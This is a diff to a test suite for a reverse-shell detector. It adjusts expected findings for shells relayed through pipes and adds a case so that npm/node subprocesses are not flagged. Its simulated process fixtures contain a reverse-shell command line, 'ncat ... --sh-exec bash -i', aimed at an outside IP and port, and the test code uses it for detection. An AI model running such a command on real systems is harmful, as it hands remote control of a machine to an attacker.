@@ -166,12 +166,8 @@ describe('class 2: relayed through pipes, FIFOs, ptys and socketpairs', () => {
     h.proc(700, 1, 'ncat', ['ncat', '198.51.100.31', '4444', '--sh-exec', 'bash -i'], { 3: s2, 4: 'pipe:[40]', 5: 'pipe:[41]' });
     h.proc(701, 700, 'sh', ['/bin/sh', '-c', 'bash -i'], { 0: 'pipe:[40]', 1: 'pipe:[41]', 2: 'pipe:[41]' });
     const f = detectReverseShells(h.snapshot());
-    // The worker is an outbound interpreter running a shell: only the weak class-3 signal (known noise for job workers).
-    expect(f.map((x) => [x.pid, x.class, x.level])).toEqual([
-      [701, 2, 'serious'],
-      [601, 3, 'suspicious'],
-    ]);
-    expect(detectReverseShells(h.snapshot(), { allowedHolders: ['node'] }).map((x) => x.pid)).toEqual([701]);
+    // The worker is an outbound interpreter running `sh -c`: the shell does not read commands from it.
+    expect(f.map((x) => [x.pid, x.class, x.level])).toEqual([[701, 2, 'serious']]);
   });
 
   it('ignores a server (it listens) feeding a helper shell through pipes, like Erlang `sh -s`', () => {
@@ -265,13 +261,22 @@ describe('class 3: interpreters', () => {
     expect(f[0]).toMatchObject({ ruleId: 'revshell.interpreter-cmdline', class: 3, level: 'serious', pid: 1700, holderPid: 1700 });
   });
 
-  it('reports an outbound interpreter running a shell child, suspicious unless the shell is wired to it', () => {
+  it('reports an outbound interpreter feeding the stdin of an interactive shell child (the relay rule sees it first)', () => {
     const h = init(new Host());
     const s = h.tcp('198.51.100.3', 8080, 43001);
     h.proc(1800, 1, 'python3', ['python3', 'agent.py'], { 3: s, 5: 'pipe:[80]', 6: 'pipe:[81]' });
-    h.proc(1801, 1800, 'sh', ['/bin/sh', '-c', 'sleep 30; id'], { 0: '/dev/null', 1: 'pipe:[81]', 2: 'pipe:[81]' });
+    h.proc(1801, 1800, 'sh', ['/bin/sh', '-i'], { 0: 'pipe:[80]', 1: 'pipe:[81]', 2: 'pipe:[81]' });
     const f = detectReverseShells(h.snapshot());
-    expect(f.map((x) => [x.ruleId, x.class, x.level, x.pid, x.holderPid])).toEqual([['revshell.interpreter-shell', 3, 'suspicious', 1801, 1800]]);
+    expect(f.map((x) => [x.ruleId, x.class, x.level, x.pid, x.holderPid])).toEqual([['revshell.relayed-stdio', 2, 'serious', 1801, 1800]]);
+  });
+
+  it('does not flag an outbound interpreter (npm/node over HTTPS) running `sh -c` children, even with piped stdio', () => {
+    const h = init(new Host());
+    const s = h.tcp('104.16.0.35', 443, 43011);
+    h.proc(1850, 1, 'node', ['node', '/usr/bin/npm', 'install'], { 3: s, 5: 'pipe:[85]', 6: 'pipe:[86]' });
+    h.proc(1851, 1850, 'sh', ['sh', '-c', 'node-gyp rebuild'], { 0: 'pipe:[85]', 1: 'pipe:[86]', 2: 'pipe:[86]' });
+    h.proc(1852, 1850, 'sh', ['sh', '-c', 'sleep 5'], { 0: '/dev/null', 1: 'pipe:[86]', 2: 'pipe:[86]' });
+    expect(detectReverseShells(h.snapshot())).toEqual([]);
   });
 
   it('ignores a web app (listening interpreter) running sh -c', () => {
